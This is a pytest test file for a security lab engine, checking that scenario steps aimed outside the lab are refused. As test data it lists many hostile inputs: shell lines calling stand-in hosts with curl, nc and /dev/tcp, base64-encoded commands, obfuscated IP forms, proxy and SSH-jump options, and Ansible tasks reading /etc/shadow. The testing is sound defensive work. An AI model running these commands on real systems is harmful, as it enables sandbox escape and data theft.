"""Scenarios that try to get out: whatever kind of step, however written, nothing of it reaches a node."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from lab.engine.nodes import SeenNode
from lab.engine.shell import Completed
from lab.errors import BadFile
from lab.exercise.atomic.library import Library, read_tests
from lab.exercise.play import Play
from lab.exercise.scenario import read_scenario
from lab.exercise.truth import Truth, read_truth
from lab.files import records
from lab.files.workplace import Workplace
from lab.moment import Moment
from lab.runs import folder
from tests.world import World, completed, starter

OUT = "198.51.100.9"
"""An address of nobody (RFC 5737); in memory nothing could reach it anyhow."""

WAYS = {
    # nmap: hosts where no host belongs
    "nmap target": f"nmap: {{target: {OUT}}}",
    "nmap name elsewhere": "nmap: {target: example.invalid}",
    "nmap other network": "nmap: {target: desk}",
    "nmap block too large": "nmap: {target: 10.0.0.0/8}",
    "nmap everything": "nmap: {target: 0.0.0.0/0}",
    "nmap list of targets": f"nmap: {{target: 'bastion,{OUT}'}}",
    "nmap two targets": f"nmap: {{target: 'bastion {OUT}'}}",
    "nmap -iL": "nmap: {target: bastion, arguments: -iL /tmp/hosts}",
    "nmap -iR": "nmap: {target: bastion, arguments: -iR 5}",
    "nmap --resume": "nmap: {target: bastion, arguments: --resume /tmp/x}",
    "nmap -b": f"nmap: {{target: bastion, arguments: -b {OUT}}}",
    "nmap -sI": f"nmap: {{target: bastion, arguments: '-sI {OUT}'}}",
    "nmap decoys": f"nmap: {{target: bastion, arguments: '-D {OUT}'}}",
    "nmap proxies": f"nmap: {{target: bastion, arguments: '--proxies http://{OUT}'}}",
    "nmap host in arguments": f"nmap: {{target: bastion, arguments: -sS {OUT}}}",
    "nmap name in arguments": "nmap: {target: bastion, arguments: -sS evil}",
    "nmap script with a host": f"nmap: {{target: bastion, arguments: '--script-args=x={OUT}'}}",
    "nmap dns server": f"nmap: {{target: bastion, arguments: --dns-servers={OUT}}}",
    "nmap host by template": 'nmap: {target: bastion, arguments: \'-sS {{ "198.51." ~ "100.9" }}\'}',
    "nmap in ports": f"nmap: {{target: bastion, ports: '22 {OUT}'}}",
    # addresses, written otherwise
    "decimal": "command: {argv: [ping, '3325256713']}",
    "octal": "command: {argv: [ping, 0306.063.0144.011]}",
    "hexadecimal": "command: {argv: [ping, '0xc6336409']}",
    "mixed": "command: {argv: [ping, 0xc6.51.25609]}",
    "two parts": "command: {argv: [ping, '198.3368969']}",
    "mapped": "command: {argv: [ping, '::ffff:198.51.100.9']}",
    "ipv6": "command: {argv: [ping, '2001:db8::1']}",
    "other digits": "command: {argv: [ping, '\uff11\uff19\uff18.51.100.9']}",
    "spilling block": "command: {argv: [fping, -g, 10.213.0.0/16]}",
    "range": "command: {argv: [nmap, 198.51.100.1-9]}",
    "base64": "command: {argv: [sh, -c, 'echo cGluZyAxOTguNTEuMTAwLjk= | base64 -d | sh']}",
    "hex text": "command: {argv: [sh, -c, 'echo 3139382e35312e3130302e39 | xxd -r -p']}",
    "escapes": "command: {argv: [sh, -c, 'ping 198.51.100.\\x39']}",
    "quotes": "command: {argv: [sh, -c, 'ping 198.51.\"100\".9']}",
    "built while it runs": "command: {argv: [sh, -c, 'ping 198.51.$A.9']}",
    # shells and options of tools
    "semicolon": f"command: {{argv: [sh, -c, 'id; curl {OUT}']}}",
    "substitution": f"command: {{argv: [sh, -c, 'id $(nc {OUT} 80)']}}",
    "dev tcp": f"command: {{argv: [bash, -c, 'exec 3<>/dev/tcp/{OUT}/80']}}",
    "line feed": f'command: {{argv: [sh, -c, "id\\ncurl {OUT}"]}}',
    "hydra other host": f"command: {{argv: [hydra, -l, x, 'ssh://{OUT}'], targets: [bastion]}}",
    "hydra -M": f"command: {{argv: [hydra, -M, {OUT}, ssh], targets: [bastion]}}",
    "sqlmap url": "command: {argv: [sqlmap, -u, 'http://evil.example/?id=1'], targets: [shop]}",
    "sqlmap proxy": f"command: {{argv: [sqlmap, -u, 'http://shop/', '--proxy=http://{OUT}:1']}}",
    "curl proxy": f"command: {{argv: [curl, -x, '{OUT}:3128', 'http://shop/'], targets: [shop]}}",
    "curl resolve": f"command: {{argv: [curl, --resolve, 'shop:80:{OUT}', 'http://shop/']}}",
    "curl connect-to": f"command: {{argv: [curl, --connect-to, '::{OUT}:80', 'http://shop/']}}",
    "url user": f"command: {{argv: [curl, 'http://shop@{OUT}/']}}",
    "url of a name": "command: {argv: [curl, 'http://evil.example/']}",
    "ssh jump": f"command: {{argv: [ssh, -J, 'x@{OUT}', bastion], targets: [bastion]}}",
    "ssh option": f"command: {{argv: [ssh, '-oProxyCommand=nc {OUT} 22', bastion], targets: [bastion]}}",
    "target elsewhere": "command: {argv: [id], targets: [198.51.100.9]}",
    # sessions
    "ssh target": f"ssh: {{target: {OUT}, user: a, password: b, command: id}}",
    "ssh target with port": "ssh: {target: 'bastion:22', user: a, password: b, command: id}",
    "ssh command": f"ssh: {{target: bastion, user: a, password: b, command: 'nc {OUT} 80'}}",
    "ssh onward": f"ssh: {{target: bastion, user: a, password: b, command: 'ssh -J x@{OUT} y'}}",
    "ssh session name": "ssh: {target: bastion, user: a, password: b, command: id, session: ../x}",
    # http
    "http target": f"http: {{target: {OUT}}}",
    "http name": "http: {target: evil.example}",
    "http absolute path": "http: {target: shop, path: 'http://evil.example/'}",
    "http path by template": 'http: {target: shop, path: \'{{ "http:" ~ "//evil.example/" }}\'}',
    "http address in the path": f"http: {{target: shop, path: '/?url={OUT}'}}",
    "http url in the body": "http: {target: shop, form: {url: 'http://evil.example/'}}",
    "http header": f"http: {{target: shop, headers: {{X-Forwarded-Host: {OUT}}}}}",
    # load and packets
    "http first page": f"http: {{target: shop, path: /, via: '/?u=http://{OUT}/'}}",
    "http upload": f"http: {{target: shop, path: /, upload: {{field: f, name: a, content: 'curl {OUT}'}}}}",
    "health target": f"health: {{target: {OUT}}}",
    "health path": f"health: {{target: shop, path: '/?u=http://{OUT}/'}}",
    "listener serves": f"listen: {{folder: /root/x, http: 8080, files: {{a.sh: 'curl {OUT}'}}}}",
    "ssh key": f"ssh: {{target: {OUT}, user: maria, key: /tmp/k, command: id}}",
    "traffic path": (
        f"traffic: {{target: shop, port: 80, rate: 1, seconds: 1, transport: http, path: '/?u={OUT}'}}"
    ),
    "traffic target": f"traffic: {{target: {OUT}, port: 80, rate: 1, seconds: 1}}",
    "traffic block": "traffic: {target: outside, port: 80, rate: 1, seconds: 1, payload: 198.51.100.9}",
    "traffic beyond its cap": "traffic: {target: shop, port: 80, rate: 100000, seconds: 1}",
    "traffic without end": "traffic: {target: shop, port: 80, rate: 1, seconds: 99999}",
    "packet target": f"packet: {{target: {OUT}, layers: [TCP: {{dport: 22}}]}}",
    "packet destination": f"packet: {{target: bastion, layers: [IP: {{dst: {OUT}}}]}}",
    "packet source": f"packet: {{target: bastion, layers: [IP: {{src: {OUT}}}]}}",
    "packet in a packet": f"packet: {{target: bastion, layers: [IP: {{}}, GRE: {{}}, IP: {{dst: {OUT}}}]}}",
    "packet arp": f"packet: {{target: bastion, layers: [ARP: {{pdst: {OUT}}}]}}",
    "packet payload": f"packet: {{target: bastion, layers: [UDP: {{}}, Raw: {{load: 'GET {OUT}'}}]}}",
    "packets without end": "packet: {target: bastion, layers: [TCP: {}], count: 1000000}",
    # Ansible runs on this machine: what it could do here
    "ansible delegate": "playbook: {tasks: [{command: id, delegate_to: localhost}]}",
    "ansible local action": "playbook: {tasks: [{local_action: command id}]}",
    "ansible connection": "playbook: {tasks: [{command: id, connection: local}]}",
    "ansible vars": "playbook: {tasks: [{command: id, vars: {ansible_connection: local}}]}",
    "ansible include": "playbook: {tasks: [{include_tasks: /etc/passwd}]}",
    "ansible role": "playbook: {tasks: [{import_role: {name: x}}]}",
    "ansible fetch": "playbook: {tasks: [{fetch: {src: /etc/passwd, dest: /tmp/x}}]}",
    "ansible copies our file": "playbook: {tasks: [{copy: {src: /etc/shadow, dest: /tmp/x}}]}",
    "ansible copies our file, in short": "playbook: {tasks: [{copy: src=/etc/shadow dest=/tmp/x}]}",
    "ansible script": "playbook: {tasks: [{script: /bin/true}]}",
    "ansible template": "playbook: {tasks: [{template: {src: /etc/shadow, dest: /tmp/x}}]}",
    "ansible lookup": "playbook: {tasks: [{command: \"{{ '{{' }} lookup('pipe', 'id') {{ '}}' }}\"}]}",
    "ansible debug evaluates": "playbook: {tasks: [{debug: {var: \"lookup('pipe', 'id')\"}}]}",
    "ansible assert evaluates": "playbook: {tasks: [{assert: {that: \"lookup('pipe', 'id')\"}}]}",
    "ansible when evaluates": "playbook: {tasks: [{command: id, when: \"lookup('pipe', 'id')\"}]}",
    "ansible submits our file": "playbook: {tasks: [{uri: {url: 'http://shop/', src: /etc/passwd}}]}",
    "ansible copies by args": "playbook: {tasks: [{copy: {dest: /tmp/x}, args: {src: /etc/shadow}}]}",
    "ansible loop": "playbook: {tasks: [{command: id, loop: [1]}]}",
    "ansible fetches": "playbook: {tasks: [{get_url: {url: 'http://evil.example/', dest: /tmp/x}}]}",
    "ansible address": f"playbook: {{tasks: [{{command: ping {OUT}}}]}}",
    # somebody else's test
    "atomic address": "atomic: {technique: T1000, test: 1}",
    "atomic url": "atomic: {technique: T1000, test: 2}",
    "atomic argument": f"atomic: {{technique: T1000, test: 3, arguments: {{host: {OUT}}}}}",
    "atomic argument by template": "atomic: {technique: T1000, test: 3, arguments: {host: '{{ out }}'}}",
    "atomic prerequisite": "atomic: {technique: T1000, test: 4}",
    "atomic climbs": "atomic: {technique: T1000, test: 5}",
    # templates
    "template to a host": "command: {argv: [ping, '{{ [198, 51, 100, 9] | join(\".\") }}']}",
    "template out of the sandbox": "command: {argv: [id, \"{{ ''.__class__.__mro__ }}\"]}",
}

ATOMICS = f"""
attack_technique: T1000
atomic_tests:
- {{name: a, supported_platforms: [linux], executor: {{name: sh, command: 'nc {OUT} 80'}}}}
- {{name: b, supported_platforms: [linux], executor: {{name: sh, command: 'curl http://evil.example/'}}}}
- name: c
  supported_platforms: [linux]
  input_arguments: {{host: {{type: string, default: localhost}}}}
  executor: {{name: sh, command: 'nc #{{host}} 80'}}
- name: d
  supported_platforms: [linux]
  dependencies: [{{description: x, prereq_command: 'nc {OUT} 80', get_prereq_command: 'true'}}]
  executor: {{name: sh, command: 'true'}}
- name: e
  supported_platforms: [linux]
  executor: {{name: sh, command: 'cat PathToAtomicsFolder/T1000/src/../../../../x'}}
"""


def test_there_are_sixty_and_more() -> None:
    assert len(WAYS) >= 60


@pytest.mark.usefixtures("workplace")
@pytest.mark.parametrize("way", WAYS)
def test_nothing_that_leads_out_reaches_a_node(way: str) -> None:
    world = World()
    world.special = _no_program
    text = (
        f"name: hostile\nbenign: 0s\nvars: {{out: {OUT}}}\nsteps:\n"
        f"  - {{name: out, technique: T1046, from: attacker, revert: none, {WAYS[way]}}}\n"
    )
    try:
        (truth,) = played(text, world)
    except BadFile:
        return  # refused before any lab was looked at
    assert truth.status in {"refused", "skipped"}
    ran = [argv for _, argv in world.ran if argv[0] not in {"date", "perl"}]
    ran = [argv for argv in ran if not any("/var/lib/person" in word for word in argv)]  # people are told
    assert ran == []


def _no_program(_node: SeenNode, argv: tuple[str, ...]) -> Completed | None:
    return completed(argv) if argv[0] == "perl" else None


def played(text: str, world: World) -> tuple[Truth, ...]:
    """Play a scenario in memory; return what it says of its steps."""
    world.stand_up()
    lab = starter()
    Path("T1000.yaml").write_text(ATOMICS, encoding="utf-8")
    library = Library(root=Path(), tests=read_tests(Path("T1000.yaml")))
    path = Path("hostile.yml")
    path.write_text(text, encoding="utf-8")
    scenario = read_scenario(path, lab, library)
    run = folder.create(Workplace(Path.cwd()), scenario.name, Moment.now())
    Play(
        lab=lab,
        scenario=scenario,
        engine=world.engine,
        run=run.path.name,
        happened=run.happened,
        tell=lambda _line: None,
        pause=lambda _seconds: None,
    ).play()
    return tuple(it for it in read_truth(run.happened) if it.label == "attack")


@pytest.mark.usefixtures("workplace")
@pytest.mark.parametrize("onward", [f"http://{OUT}/", "http://evil.example/", "//desk/", "http://shop:81/"])
def test_a_redirect_that_leads_out_is_not_followed(onward: str) -> None:
    world, asked = World(), []

    def answer(_node: SeenNode, argv: tuple[str, ...]) -> Completed | None:
        if argv[0] != "python3":
            return None
        asked.append(argv)
        nothing = {"body": "", "cookies": {}, "gone": [], "forms": []}
        return completed(argv, records.to_json({"status": 302, "headers": {"location": onward}, **nothing}))

    world.special = answer
    text = "name: x\nbenign: 0s\nsteps:\n  - {technique: T1046, from: attacker, http: {target: shop}}\n"
    (truth,) = played(text, world)
    assert len(asked) == 1
    assert "is not of lab" in truth.reason


@pytest.mark.usefixtures("workplace")
def test_a_node_that_was_given_another_address_in_the_middle_is_resolved_again() -> None:
    world = World()

    def move(_node: SeenNode, argv: tuple[str, ...]) -> Completed | None:
        if argv == ("first",):
            bastion = world.engine.observe("starter").node("bastion")
            assert bastion is not None
            moved = replace(bastion, addresses={"outside": "10.99.99.99", "inside": "10.98.98.98"})
            world.engine._nodes["starter", "bastion"] = moved  # noqa: SLF001  # as somebody behind our back
        return None

    world.special = move
    text = (
        "name: x\nbenign: 0s\nsteps:\n"
        "  - {technique: T1046, from: attacker, command: {argv: [first]}}\n"
        "  - {technique: T1046, from: attacker, command: {argv: [second, '{{ nodes.bastion.address }}']}}\n"
    )
    played(text, world)
    assert ("attacker", ("second", "10.99.99.99")) in world.ran
